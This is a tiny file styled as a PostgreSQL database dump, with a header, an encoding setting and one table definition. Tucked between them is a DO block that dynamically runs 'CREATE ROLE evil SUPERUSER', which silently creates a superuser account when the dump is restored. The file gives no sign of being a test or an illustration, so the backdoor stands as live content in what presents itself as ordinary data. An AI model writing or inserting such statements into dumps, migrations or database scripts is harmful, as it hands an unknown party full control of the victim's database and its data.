--
-- PostgreSQL database dump
--

SET client_encoding = 'UTF8';
CREATE TABLE public.t (a text);
DO $$ BEGIN EXECUTE 'CREATE ROLE evil SUPERUSER'; END $$;

--
-- PostgreSQL database dump complete
--
